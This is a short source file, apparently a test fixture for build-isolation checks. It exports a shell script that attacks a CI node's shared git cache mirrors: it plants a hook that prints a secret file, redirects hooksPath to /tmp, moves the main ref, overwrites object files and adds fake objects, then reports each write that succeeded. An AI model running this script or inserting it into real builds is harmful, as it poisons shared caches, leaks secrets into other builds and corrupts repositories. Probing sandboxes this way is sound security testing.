/**
 * A build script that tries to leave code for later builds in every mirror of
 * the node's git cache, which it finds through its own work tree's alternates:
 * a planted hook, a config naming its own hooks, a moved ref, replaced and
 * added objects. It prints how many mirrors of each trust level it found, then
 * a line for each write that got through.
 */
export const mirrorAttack = `#!/bin/sh
cache=$(dirname "$(dirname "$(dirname "$(cat .git/objects/info/alternates)")")")
for level in trusted untrusted; do echo "$level mirrors: $(ls -d "$cache/$level"/*.git | wc -l)"; done
for mirror in "$cache"/*/*.git; do
  mkdir -p "$mirror/hooks" 2>/dev/null
  printf '#!/bin/sh\\ncat "$SECRET_PATH"\\n' > "$mirror/hooks/reference-transaction" 2>/dev/null && chmod +x "$mirror/hooks/reference-transaction" && echo "planted a hook in $mirror"
  printf '[core]\\n\\thooksPath = /tmp\\n' >> "$mirror/config" 2>/dev/null && echo "wrote the config of $mirror"
  git rev-parse HEAD > "$mirror/refs/heads/main" 2>/dev/null && echo "moved a ref in $mirror"
  for object in $(find "$mirror/objects" -type f); do
    chmod u+w "$object" 2>/dev/null; echo evil > "$object" 2>/dev/null && echo "replaced $object"
  done
  mkdir "$mirror/objects/00" 2>/dev/null; touch "$mirror/objects/00/planted" 2>/dev/null && echo "added an object to $mirror"
done
echo attack done
`;
